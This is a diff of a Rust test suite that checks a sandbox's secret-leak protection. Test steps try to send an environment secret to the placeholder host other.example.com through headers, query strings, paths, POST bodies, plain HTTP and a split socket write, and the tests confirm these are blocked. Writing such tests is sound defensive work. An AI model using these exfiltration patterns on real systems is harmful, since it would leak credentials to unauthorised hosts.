@@ -21,6 +21,14 @@ fn trial(cell: &Cell) -> Trial<'_> {
     Trial::new(cell, grants).flags(&["--env", &format!("{NAME}={}", secret(cell))])
 }
 
+/// The same hosts and the same variable, of which nobody says that it is a secret.
+fn open_trial(cell: &Cell) -> Trial<'_> {
+    let rule = "{domains: [api.example.com, other.example.com], ports: [443, 80], http: [{methods: [GET, POST], paths: [\"/*\"]}]}";
+    let mut grants = Grants::egress(rule).asking(&format!("env: [{NAME}]"));
+    grants.operator.push_str(&format!("env: [{NAME}]\n"));
+    Trial::new(cell, grants).flags(&["--env", &format!("{NAME}={}", secret(cell))])
+}
+
 fn ask(host: &str, tag: &str, more: Value) -> Value {
     let mut fields = json!({"url": format!("https://{host}/hello?tag={tag}"), "trust": "default"});
     for (name, value) in more.as_object().expect("fields") {
@@ -86,27 +94,35 @@ claim! {
 
 claim! {
     fn a_placeholder_or_a_secret_on_its_way_elsewhere_is_stopped(cell) {
-        let real = secret(cell);
-        for (kind, value) in [("placeholder", format!("${{{NAME}}}")), ("real", real)] {
+        let leaks = ["header", "query", "path", "body", "plain"];
+        let steps = |trial: Trial<'_>, value: &str, tag: &str| trial
+            .step("harmless", "urllib", ask("other.example.com", &format!("fine-{tag}"), json!({})))
+            .step("header", "urllib", ask("other.example.com", &format!("leak-{tag}"), json!({"headers": {"X-Key": value}})))
+            .step("query", "urllib", ask("other.example.com", &format!("leak-{tag}&k={value}"), json!({})))
+            .step("path", "urllib", json!({"url": format!("https://other.example.com/{value}/leak-{tag}"), "trust": "default"}))
+            .step("body", "urllib", ask("other.example.com", &format!("body-{tag}"), json!({"method": "POST", "body": format!("key={value}")})))
+            .step("plain", "urllib", json!({"url": format!("http://other.example.com/hello?tag=leak-{tag}&k={value}")}))
+            .inside();
+        let (real, key) = (secret(cell), format!("${{{NAME}}}"));
+        let carrying = |tag: &str| requests(tag).iter().filter(|r| r.to_string().contains(&real)).count();
+        let free = steps(open_trial(cell), &key, &format!("{}-free", cell.mark()));
+        for step in leaks {
+            free.ok(step);
+        }
+        assert_eq!(carrying(&format!("{}-free", cell.mark())), leaks.len(), "the counter-proof arrives");
+        for (kind, value) in [("placeholder", key.as_str()), ("real", real.as_str())] {
             let tag = format!("{}-{kind}", cell.mark());
-            let report = trial(cell)
-                .step("harmless", "urllib", ask("other.example.com", &format!("fine-{tag}"), json!({})))
-                .step("header", "urllib", ask("other.example.com", &format!("leak-{tag}"), json!({"headers": {"X-Key": value}})))
-                .step("query", "urllib", ask("other.example.com", &format!("leak-{tag}&k={value}"), json!({})))
-                .step("path", "urllib", json!({"url": format!("https://other.example.com/{value}/leak-{tag}"), "trust": "default"}))
-                .step("body", "urllib", ask("other.example.com", &format!("body-{tag}"), json!({"method": "POST", "body": format!("key={value}")})))
-                .step("plain", "urllib", json!({"url": format!("http://other.example.com/hello?tag=leak-{tag}&k={value}")}))
-                .inside();
+            let report = steps(trial(cell), value, &tag);
             report.ok("harmless");
-            for step in ["header", "query", "path", "body", "plain"] {
+            for step in leaks {
                 report.failed(step);
             }
             report.denied("other.example.com", "secret_leak");
             let leaked = requests(&format!("leak-{tag}"));
             assert!(leaked.is_empty(), "{leaked:#?}");
             // A body is scanned as it streams: its head may arrive, what it was to carry may not.
-            let secret = secret(cell);
-            assert!(requests(&format!("body-{tag}")).iter().all(|r| !r.to_string().contains(&secret) && !r["body"].to_string().contains("key=")));
+            assert_eq!(carrying(&tag), 0);
+            assert!(requests(&format!("body-{tag}")).iter().all(|r| !r["body"].to_string().contains("key=")));
         }
     }
 }
@@ -129,24 +145,27 @@ with socket.create_connection(('other.example.com', 80), timeout=5) as stream:
     if b' 200 ' not in answer:
         raise ConnectionError('no answer')
 ";
-        let report = trial(cell)
-            .step("pieces", "python", json!({"code": code, "args": {"left": head, "right": right}}))
-            .inside();
+        let step = json!({"code": code, "args": {"left": head, "right": right}});
+        let arrived = || requests(&tag).iter().filter(|r| r["body"].to_string().contains(&value)).count();
+        open_trial(cell).step("pieces", "python", step.clone()).inside().ok("pieces");
+        assert_eq!(arrived(), 1, "the counter-proof arrives");
+        let report = trial(cell).step("pieces", "python", step).inside();
         report.failed("pieces");
         report.denied("other.example.com", "secret_leak");
-        assert!(requests(&tag).iter().all(|r| !r["body"].to_string().contains(&value)));
+        assert_eq!(arrived(), 1);
     }
 }
 
 claim! {
     /// Only where the binding says: a body is no header.
     fn the_real_value_is_not_put_into_a_body(cell) {
-        let tag = cell.mark();
-        trial(cell)
-            .step("body", "urllib", ask("api.example.com", tag, json!({"method": "POST", "body": format!("key=${{{NAME}}}")})))
-            .inside();
+        let step = ask("api.example.com", cell.mark(), json!({"method": "POST", "body": format!("key=${{{NAME}}}")}));
         let secret = secret(cell);
-        assert!(requests(tag).iter().all(|r| !r.to_string().contains(&secret)));
+        let arrived = || requests(cell.mark()).iter().filter(|r| r.to_string().contains(&secret)).count();
+        open_trial(cell).step("body", "urllib", step.clone()).inside().ok("body");
+        assert_eq!(arrived(), 1, "the counter-proof arrives");
+        trial(cell).step("body", "urllib", step).inside();
+        assert_eq!(arrived(), 1);
     }
 }
 
@@ -154,32 +173,27 @@ claim! {
 fn the_real_value_is_put_into_http_2_requests_too() {
     let _shared = shared();
     let cell = cell(User::Caller);
-    let key = format!("${{{NAME}}}");
-    let report = trial(&cell)
-        .with_libraries()
-        .step(
-            "header",
-            "httpx2",
-            ask(
-                "api.example.com",
-                cell.mark(),
-                json!({"headers": {"X-Key": key}}),
-            ),
-        )
-        .step(
-            "leak",
-            "httpx2",
-            ask(
-                "other.example.com",
-                &format!("leak-{}", cell.mark()),
-                json!({"headers": {"X-Key": key}}),
-            ),
-        )
-        .inside();
+    let steps = |trial: Trial<'_>, tag: &str| {
+        let key = || json!({"headers": {"X-Key": format!("${{{NAME}}}")}});
+        trial
+            .with_libraries()
+            .step("header", "httpx2", ask("api.example.com", tag, key()))
+            .step(
+                "leak",
+                "httpx2",
+                ask("other.example.com", &format!("leak-{tag}"), key()),
+            )
+            .inside()
+    };
+    let free = steps(open_trial(&cell), &format!("free-{}", cell.mark()));
+    free.ok("header");
+    free.ok("leak");
+    let tag = format!("held-{}", cell.mark());
+    let report = steps(trial(&cell), &tag);
     assert_eq!(report.ok("header")["version"], "HTTP/2");
     report.failed("leak");
     report.denied("other.example.com", "secret_leak");
-    let arrived = requests(cell.mark());
+    let arrived = requests(&tag);
     assert_eq!(arrived.len(), 1, "{arrived:#?}");
     assert!(
         arrived[0].to_string().contains(&secret(&cell)),
